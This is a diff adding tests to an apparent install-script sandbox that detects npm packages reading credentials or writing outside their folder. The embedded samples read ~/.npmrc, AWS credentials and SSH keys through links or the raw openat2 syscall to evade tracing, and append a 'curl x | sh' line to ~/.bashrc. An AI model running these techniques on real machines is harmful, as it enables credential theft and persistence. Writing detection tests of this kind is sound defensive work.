@@ -183,3 +183,104 @@ def test_two_sandboxes_on_one_machine_never_share_a_uid() -> None:
     again, claim = sandbox._claim_uid()
     claim.close()
     assert again == first_uid  # released with the socket
+
+
+# A script that opens files with openat2 (Linux 5.6+; libc has no wrapper: a raw syscall from any native code or
+# from ctypes) reads the canary and writes outside its folder without an `openat` in the trace.
+OPENAT2 = r"""
+import ctypes, os, struct
+libc = ctypes.CDLL(None, use_errno=True)
+def openat2(path, flags):
+    buf = struct.pack("QQQ", flags, 0o644 if flags & os.O_CREAT else 0, 0)  # struct open_how {flags, mode, resolve}
+    return libc.syscall(437, -100, path.encode(), buf, len(buf))
+fd = openat2(os.path.expanduser("~/.npmrc"), os.O_RDONLY)
+print("openat2 read", len(os.read(fd, 4096)) if fd >= 0 else "errno %d" % ctypes.get_errno())
+fd = openat2(os.path.expanduser("~/.bashrc"), os.O_WRONLY | os.O_CREAT | os.O_APPEND)
+print("openat2 write", os.write(fd, b"curl x | sh\n") if fd >= 0 else "errno %d" % ctypes.get_errno())
+"""
+
+
+def test_a_file_opened_with_openat2_is_never_unobserved(tmp_path: Path) -> None:
+    tgz = pack(tmp_path, "openat2-demo", {"postinstall": "/usr/bin/python3 o.py"}, {"o.py": OPENAT2})
+    obs = sandbox.observe_install(tgz, "openat2-demo", registry=NO_REGISTRY)
+    assert obs.exit_code == 0, obs.output
+    beh = profile_of(obs).packages["openat2-demo"]
+    # openat2 is refused (ENOSYS, as on a kernel without it: libc and libuv fall back to the traced openat)
+    assert "openat2 read errno 38" in obs.output and "openat2 write errno 38" in obs.output, obs.output
+    assert "/usr/bin/python3 o.py" in beh.items["processes"]
+
+
+# A canary read through another name: a symlink (its open shows the link's path), a hard link, a renamed folder.
+INDIRECT = r"""
+const fs = require('fs'), os = require('os'), path = require('path');
+const home = os.homedir(), tmp = os.tmpdir();
+fs.symlinkSync(path.join(home, '.npmrc'), path.join(tmp, 'a'));
+fs.readFileSync(path.join(tmp, 'a'));
+fs.linkSync(path.join(home, '.aws/credentials'), path.join(tmp, 'b'));
+fs.readFileSync(path.join(tmp, 'b'));
+fs.renameSync(path.join(home, '.ssh'), path.join(tmp, 's'));
+fs.readFileSync(path.join(tmp, 's/id_ed25519'));
+console.log('indirect reads done');
+"""
+
+
+def test_a_canary_read_through_a_link_or_a_renamed_folder_is_recorded(tmp_path: Path) -> None:
+    tgz = pack(tmp_path, "indirect-demo", {"postinstall": "node i.js"}, {"i.js": INDIRECT})
+    obs = sandbox.observe_install(tgz, "indirect-demo", registry=NO_REGISTRY)
+    assert obs.exit_code == 0 and "indirect reads done" in obs.output, obs.output
+    beh = profile_of(obs).packages["indirect-demo"]
+    assert sorted(beh.items["canaries"]) == ["~/.aws/credentials", "~/.npmrc", "~/.ssh/id_ed25519"], beh.items
+
+
+def test_the_trace_reader_sees_a_canary_under_another_name() -> None:
+    lay = ib.Layout("/s/box/project", "/s/box/home", "/s/box/tmp", ("/s/box/home/.npmrc", "/s/box/home/.ssh/k"))
+    trace = "\n".join(
+        [
+            '10 chdir("/s/box/project/node_modules/a") = 0',
+            '10 execve("/usr/bin/node", ["node", "x.js"], 0x1 /* 3 vars */) = 0',
+            '10 openat(AT_FDCWD, "/s/box/tmp/l", O_RDONLY|O_CLOEXEC) = 3</s/box/home/.npmrc>',  # a symlink
+            '10 link("/s/box/home/.npmrc", "/s/box/tmp/h") = 0',
+            '10 renameat2(AT_FDCWD, "../../../home/.ssh", AT_FDCWD, "/s/box/tmp/s", 0) = 0',
+            '10 symlink("../home/.ssh/k", "/s/box/tmp/k") = 0',
+        ]
+    )
+    a = ib.read_trace(trace, lay).packages["a"]
+    assert sorted(a.items["canaries"]) == ["~/.npmrc", "~/.ssh/k"]
+    assert a.items["canaries"]["~/.npmrc"].startswith("openat(") and a.items["canaries"]["~/.ssh/k"].startswith("ren")
+    assert (
+        not ib.read_trace(trace.replace("/s/box/home/.npmrc>", "/s/box/tmp/l>"), lay)
+        .packages["a"]
+        .items["canaries"]
+        .get("~/.npmrc", "")
+        .startswith("openat(")
+    )
+
+
+# A write outside through a name inside TMPDIR: a symlink to ~/.bashrc, a hard link of the project's package.json.
+INDIRECT_WRITE = r"""
+const fs = require('fs'), os = require('os'), path = require('path');
+const tmp = os.tmpdir();
+fs.symlinkSync(path.join(os.homedir(), '.bashrc'), path.join(tmp, 'w'));
+fs.appendFileSync(path.join(tmp, 'w'), 'curl x | sh\n');
+fs.linkSync(path.resolve(__dirname, '../../package.json'), path.join(tmp, 'h'));
+fs.appendFileSync(path.join(tmp, 'h'), '\n');
+console.log('indirect writes done');
+"""
+
+
+def test_a_write_outside_through_a_link_in_tmpdir_is_recorded(tmp_path: Path) -> None:
+    tgz = pack(tmp_path, "indirect-write-demo", {"postinstall": "node w.js"}, {"w.js": INDIRECT_WRITE})
+    obs = sandbox.observe_install(tgz, "indirect-write-demo", registry=NO_REGISTRY)
+    assert obs.exit_code == 0 and "indirect writes done" in obs.output, obs.output
+    beh = profile_of(obs).packages["indirect-write-demo"]
+    assert {"~/.bashrc", "<project>/package.json"} <= set(beh.items["writes"]), beh.items
+
+
+def test_a_fifo_made_or_a_folder_removed_outside_is_recorded(tmp_path: Path) -> None:
+    """mknod/mknodat (a FIFO, `mkfifo`) and rmdir change the file system outside the package as a write does."""
+    script = "mkfifo ~/.gk-fifo && mkdir ~/.gk-empty && rmdir ~/.gk-empty && echo fs-done"
+    tgz = pack(tmp_path, "fifo-demo", {"postinstall": script})
+    obs = sandbox.observe_install(tgz, "fifo-demo", registry=NO_REGISTRY)
+    assert obs.exit_code == 0 and "fs-done" in obs.output, obs.output
+    beh = profile_of(obs).packages["fifo-demo"]
+    assert "~/.gk-fifo" in beh.items["writes"] and "~/.gk-empty" in beh.items["deleted"], beh.items
